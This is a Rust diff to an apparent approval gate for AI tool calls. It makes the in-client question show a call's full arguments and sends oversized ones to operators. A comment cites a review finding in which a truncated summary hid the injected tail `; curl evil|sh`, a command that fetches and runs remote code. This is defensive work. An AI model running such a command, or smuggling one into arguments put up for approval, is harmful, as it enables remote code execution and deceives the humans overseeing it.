@@ -90,14 +90,29 @@ pub fn user_answer(action: &str, content: Option<&Value>) -> Option<UserAnswer> 
     }
 }
 
-/// The in-client question for a held call, from the gate's `pending` answer
-/// (`POST /v1/tool-calls`, 202): what it asks (message, risk tier, summary), then, as seed 002
-/// asks of every approval surface, why it needs approval (the reasons), its predicted side
-/// effects and its rollback notes (each line left out when empty).
-pub fn in_client_question(p: &Pending) -> String {
+/// The longest canonical JSON of a call's arguments put to the client's user whole, in
+/// bytes; a call with longer arguments is not asked in the client (operators decide it).
+pub const MAX_ASKED_ARGUMENTS_BYTES: usize = 2048;
+
+/// The in-client question for a held call with `arguments`, from the gate's `pending` answer
+/// (`POST /v1/tool-calls`, 202): what it asks (message, risk tier, summary), the arguments
+/// whole (their canonical JSON, made visible: [`assent_core::template::visible`]), then, as
+/// seed 002 asks of every approval surface, why it needs approval (the reasons), its predicted
+/// side effects and its rollback notes (each line left out when empty). `None` when the
+/// arguments are longer than [`MAX_ASKED_ARGUMENTS_BYTES`]: the form says "exactly these
+/// arguments", and the summary cuts a value at 120 characters (found by review: a user
+/// approved `echo 'aaa…` without seeing the `; curl evil|sh` after it).
+pub fn in_client_question(p: &Pending, arguments: &Value) -> Option<String> {
+    let whole = assent_core::canonical::canonical_value(arguments).ok()?;
+    if whole.len() > MAX_ASKED_ARGUMENTS_BYTES {
+        return None;
+    }
     let mut q = format!(
-        "assent: {} (risk {}; {}).",
-        p.message, p.verdict.risk_tier, p.human_summary
+        "assent: {} (risk {}; {}).\nArguments, whole: {}",
+        p.message,
+        p.verdict.risk_tier,
+        p.human_summary,
+        assent_core::template::visible(&whole)
     );
     let reasons = p.verdict.reasons.iter().map(|r| r.text.as_str());
     for (title, items) in [
@@ -113,7 +128,7 @@ pub fn in_client_question(p: &Pending) -> String {
         }
     }
     q.push_str("\nApprove this call? (You may give a reason.)");
-    q
+    Some(q)
 }
 
 /// The items that are not empty.
